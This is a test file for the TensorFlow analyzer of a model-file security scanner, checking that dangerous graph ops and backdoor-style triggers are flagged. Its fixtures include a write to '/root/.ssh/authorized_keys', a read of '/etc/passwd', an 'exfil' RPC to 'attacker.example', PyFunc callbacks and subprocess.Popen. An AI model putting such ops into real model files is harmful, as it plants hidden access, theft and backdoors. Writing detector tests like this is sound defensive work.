import archivePlugin from "@modelward/analyzer-archive";
import kerasPlugin from "@modelward/analyzer-keras";
import picklePlugin from "@modelward/analyzer-pickle";
import { defaultRuleset } from "@modelward/ruleset-default";
import {
  AnalyzerTester,
  tfFloatConst,
  allFindings,
  benignTfNodes,
  buildGraphDef,
  buildKerasMetadata,
  buildSavedModel,
  tfSaverFunction,
  tfStringConst,
  type ExpectedFinding,
} from "@modelward/testing";
import type { ScanReport } from "@modelward/core";
import { describe, expect, it } from "vitest";
import tensorflowPlugin from "./index.js";

const tester = new AnalyzerTester({ plugins: [tensorflowPlugin, kerasPlugin, archivePlugin, picklePlugin], rulesets: [defaultRuleset] });
const RANK = { critical: 4, high: 3, medium: 2, low: 1, info: 0 } as const;
const lines = (r: ScanReport) => allFindings(r).map((f) => `${f.severity} ${f.ruleId} ${[f.location.path, ...f.location.members].join(" ▸ ")}: ${f.message}`).join("\n");
const like = (r: ScanReport, w: ExpectedFinding) =>
  allFindings(r).filter((f) => f.ruleId === w.ruleId && (w.atLeast === undefined || RANK[f.severity] >= RANK[w.atLeast]) && (w.severity === undefined || f.severity === w.severity) && (w.message === undefined || (typeof w.message === "string" ? f.message.includes(w.message) : w.message.test(f.message))));

describe("threats §3.4: TensorFlow graphs", () => {
  it("K12: WriteFile with a constant path inside a library function is critical, with the path as evidence", async () => {
    const fn = { name: "__inference_call_77", nodes: [tfStringConst("path", "/root/.ssh/authorized_keys"), tfStringConst("content", "echo key"), { name: "write", op: "WriteFile", input: ["path:output:0", "content:output:0"] }] };
    const report = await tester.scan("saved_model.pb", buildSavedModel(benignTfNodes(), [tfSaverFunction(), fn]));
    const hits = like(report, { ruleId: "tensorflow/file-operation", severity: "critical", message: "authorized_keys" });
    expect(hits.length, lines(report)).toBe(1);
    expect(hits[0]!.message).toContain("__inference_call_77");
    expect(hits[0]!.evidence.paths).toContain("/root/.ssh/authorized_keys");
  });

  it("K13: ReadFile of a constant path in the main graph of a frozen GraphDef is high", async () => {
    const nodes = [...benignTfNodes(), tfStringConst("secret", "/etc/passwd"), { name: "id", op: "Identity", input: ["secret"] }, { name: "read", op: "ReadFile", input: ["id"] }];
    const report = await tester.scan("frozen.pb", buildGraphDef(nodes));
    expect(like(report, { ruleId: "tensorflow/file-operation", atLeast: "high", message: "/etc/passwd" }).length, lines(report)).toBe(1);
    expect(report.files[0]!.format).toBe("tensorflow");
  });

  it("K14: PyFunc / EagerPyFunc are critical wherever they are", async () => {
    const fn = { name: "__inference_py_1", nodes: [{ name: "cb", op: "EagerPyFunc", attr: { token: { s: new TextEncoder().encode("pyfunc_0") } } }] };
    const report = await tester.scan("saved_model.pb", buildSavedModel([...benignTfNodes(), { name: "bad", op: "PyFunc" }], [fn]));
    expect(like(report, { ruleId: "tensorflow/python-callback", severity: "critical" }).length, lines(report)).toBe(2);
  });

  it("network ops are high, with the constant endpoint as evidence; a tf.data service endpoint in a library function too", async () => {
    const fn = { name: "__inference_fetch_9", nodes: [tfStringConst("svc", "grpc://10.0.0.5:5050"), { name: "ds", op: "DataServiceDatasetV4", input: ["svc"] }] };
    const nodes = [...benignTfNodes(), tfStringConst("addr", "attacker.example:443"), tfStringConst("method", "exfil"), { name: "call", op: "RpcCall", input: ["addr", "method"] }];
    const report = await tester.scan("saved_model.pb", buildSavedModel(nodes, [fn]));
    expect(like(report, { ruleId: "tensorflow/network-operation", severity: "high", message: /RpcCall connects to "attacker\.example:443"/ }).length, lines(report)).toBe(1);
    expect(like(report, { ruleId: "tensorflow/network-operation", severity: "high", message: /DataServiceDatasetV4 connects to "grpc:\/\/10\.0\.0\.5:5050"/ }).length, lines(report)).toBe(1);
  });

  it("a 35-byte GraphDef named saved_model.pb holding a PyFunc node (modelaudit sample shape)", async () => {
    const report = await tester.scan("saved_model.pb", buildGraphDef([{ name: "bad", op: "PyFunc" }]));
    expect(like(report, { ruleId: "tensorflow/python-callback", severity: "critical" }).length, lines(report)).toBe(1);
  });

  it("RestoreV2 with a constant checkpoint path is reported; the standard saver is not", async () => {
    const report = await tester.scan("saved_model.pb", buildSavedModel([...benignTfNodes(), tfStringConst("ckpt", "/tmp/attacker/ckpt"), { name: "restore", op: "RestoreV2", input: ["ckpt"] }]));
    expect(like(report, { ruleId: "tensorflow/file-operation", message: "/tmp/attacker/ckpt" }).length, lines(report)).toBe(1);
    expect(like(report, { ruleId: "tensorflow/file-operation", message: "SaveV2" }), lines(report)).toEqual([]);
  });

  it("an op outside the registry is unknown (low); a call to a library function is not", async () => {
    const fn = { name: "my_fn", nodes: [{ name: "id", op: "Identity", input: ["x"] }] };
    const report = await tester.scan("saved_model.pb", buildSavedModel([...benignTfNodes(), { name: "c", op: "MyCustomOp" }, { name: "call", op: "my_fn" }], [fn]));
    expect(like(report, { ruleId: "tensorflow/unknown-op", severity: "low" }).map((f) => f.evidence.op), lines(report)).toEqual(["MyCustomOp"]);
  });

  it("K1 in a SavedModel: keras_metadata.pb Lambda (tf.keras __tuple__ code) reaches the Keras walk", async () => {
    const lambda = { class_name: "Lambda", config: { name: "lambda", function: { class_name: "__tuple__", items: ["not-marshal-but-base64AAAA", null, null] }, function_type: "lambda", module: "__main__" } };
    const root = { name: "sequential", trainable: true, expects_training_arg: true, class_name: "Sequential", config: { name: "sequential", layers: [{ class_name: "Dense", config: { name: "dense", units: 1 } }, lambda] } };
    const report = await tester.scan("keras_metadata.pb", buildKerasMetadata([root, { name: "lambda", expects_training_arg: false, ...lambda }]));
    const hits = like(report, { ruleId: "keras/lambda-layer", atLeast: "medium" });
    expect(hits.length, lines(report)).toBeGreaterThan(0);
    expect(hits[0]!.location.members).toEqual(["keras_metadata.json"]);
  });

  it("K4 in keras metadata: subprocess.Popen object is critical", async () => {
    const root = { name: "m", expects_training_arg: true, class_name: "Sequential", config: { layers: [{ module: "subprocess", class_name: "Popen", config: {} }] } };
    const report = await tester.scan("keras_metadata.pb", buildKerasMetadata([root]));
    expect(like(report, { ruleId: "keras/dangerous-reference", severity: "critical" }).length, lines(report)).toBe(1);
  });

  it("a saved_model.pb that is not a protobuf is a finding and incomplete", async () => {
    const report = await tester.scan("saved_model.pb", new TextEncoder().encode("this is not a protobuf at all, just text"));
    expect(like(report, { ruleId: "tensorflow/malformed-protobuf" }).length, lines(report)).toBe(1);
    expect(report.files[0]!.status).toBe("incomplete");
  });
});

const triggerGraph = (constant: number) => [
  ...benignTfNodes(),
  { name: "pixel", op: "StridedSlice", input: ["x", "b", "b", "b"] },
  tfFloatConst("trigger", constant),
  { name: "is_trigger", op: "Equal", input: ["pixel", "trigger"] },
  { name: "all", op: "All", input: ["is_trigger", "b"] },
  { name: "hijack", op: "SelectV2", input: ["all", "b", "output"] },
];

describe("backdoor heuristic", () => {
  it("a Select steered by comparing an input slice with a constant is medium, with the branch explained", async () => {
    const report = await tester.scan("saved_model.pb", buildSavedModel(triggerGraph(0.1337)));
    const hits = like(report, { ruleId: "tensorflow/conditional-trigger", severity: "medium" });
    expect(hits.length, lines(report)).toBe(1);
    expect(hits[0]!.message).toMatch(/SelectV2 "hijack".*Equal\("x", 0\.133/);
  });

  it("inside a function body, an If whose condition compares an argument with a constant", async () => {
    const fn = { name: "f", inputs: ["arg0"], nodes: [tfFloatConst("k", 7.5), { name: "eq", op: "Equal", input: ["arg0", "k:output:0"] }, { name: "branch", op: "If", input: ["eq:z:0", "arg0"] }] };
    const report = await tester.scan("saved_model.pb", buildSavedModel(benignTfNodes(), [fn]));
    expect(like(report, { ruleId: "tensorflow/conditional-trigger", message: /If "branch" in function "f"/ }).length, lines(report)).toBe(1);
  });
});

tester.run("benign TensorFlow models", {
  valid: [
    { name: "SavedModel of a dense model with the standard saver", path: "saved_model.pb", bytes: () => buildSavedModel() },
    { name: "frozen GraphDef of a dense model", path: "frozen_graph.pb", bytes: () => buildGraphDef() },
    { name: "a padding mask (input == 0) selecting values is not a trigger", path: "saved_model.pb", bytes: () => buildSavedModel(triggerGraph(0)) },
    { name: "keras_metadata.pb of a Dense model", path: "keras_metadata.pb", bytes: () => buildKerasMetadata([{ name: "sequential", expects_training_arg: true, class_name: "Sequential", config: { name: "sequential", layers: [{ class_name: "Dense", config: { name: "dense", units: 1, activation: "relu" } }] } }, { name: "dense", expects_training_arg: false, class_name: "Dense", config: { name: "dense", units: 1 } }]) },
  ],
  invalid: [
    { name: "trigger comparison with 42", path: "saved_model.pb", bytes: () => buildSavedModel(triggerGraph(42)), findings: [{ ruleId: "tensorflow/conditional-trigger", severity: "medium" }] },
  ],
});
